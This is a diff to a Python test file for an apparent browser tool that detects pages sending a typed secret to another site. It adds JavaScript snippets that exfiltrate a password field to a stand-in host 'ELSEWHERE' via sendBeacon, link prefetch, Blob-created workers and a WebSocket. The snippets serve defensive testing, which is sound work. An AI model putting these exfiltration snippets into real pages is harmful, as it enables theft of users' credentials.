@@ -122,16 +122,32 @@ def test_form_to_another_site_is_not_sent(browser: WarmBrowser, sites: Sites) ->
         "fetch('ELSEWHERE/x', {method: 'POST', mode: 'no-cors', body: p.value})",
         "fetch('ELSEWHERE/x?' + encodeURIComponent(p.value), {mode: 'no-cors'})",
         "fetch('ELSEWHERE/x', {method: 'POST', mode: 'no-cors', body: btoa('user:' + p.value)})",
+        "navigator.sendBeacon('ELSEWHERE/x', p.value)",
+        "const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'ELSEWHERE/x?' + p.value;"
+        " document.head.append(link)",
+        "const script = `fetch('ELSEWHERE/x?${p.value}', {mode: 'no-cors'})`;"
+        " new Worker(window.URL.createObjectURL(new Blob([script])))",
+        "const script = `fetch('ELSEWHERE/x?${p.value}', {mode: 'no-cors'})`;"
+        " new SharedWorker(window.URL.createObjectURL(new Blob([script])))",
         "new Image().src = 'ELSEWHERE/x?p=' + p.value",
         "fetch('ELSEWHERE/x', {method: 'POST', mode: 'no-cors', body: new FormData(document.forms[0])})",
         "const form = document.forms[0]; form.target = 'inner'; form.action = 'ELSEWHERE/x'; form.submit()",
     ],
 )
 def test_script_does_not_send_a_secret_to_another_site(browser: WarmBrowser, sites: Sites, script: str) -> None:
-    body = FORM.replace("ACTION", "/in") + f'<iframe name=inner></iframe><a href="#" id=go onclick="{script}">Go</a>'
+    script = f"<script>document.getElementById('go').onclick = () => {{ {script} }}</script>"
+    body = FORM.replace("ACTION", "/in") + f'<iframe name=inner></iframe><a href="#" id=go>Go</a>{script}'
     result = walk_sites(browser, sites, body, TYPE, Click(target=css("#go"), timeout_s=3.0))
     assert result.steps[2].problem.startswith("Step 3: the page would have sent a secret to http://localhost:")
     assert not sites.received_secret()
+
+
+def test_secret_in_a_message_to_another_site_fails_the_step(browser: WarmBrowser, sites: Sites) -> None:
+    script = "new WebSocket('ELSEWHERE/x?'.replace('http', 'ws') + document.forms[0].p.value)"
+    body = FORM.replace("ACTION", "/in") + f'<button id=go onclick="{script}">Go</button>'
+    result = walk_sites(browser, sites, body, TYPE, Click(target=css("#go"), timeout_s=3.0))
+    assert result.steps[2].problem.startswith("Step 3: the page has sent a secret to ws://localhost:")
+    assert SECRET not in repr(result)
 
 
 def test_other_sites_are_loaded_as_by_any_page(browser: WarmBrowser, sites: Sites) -> None:
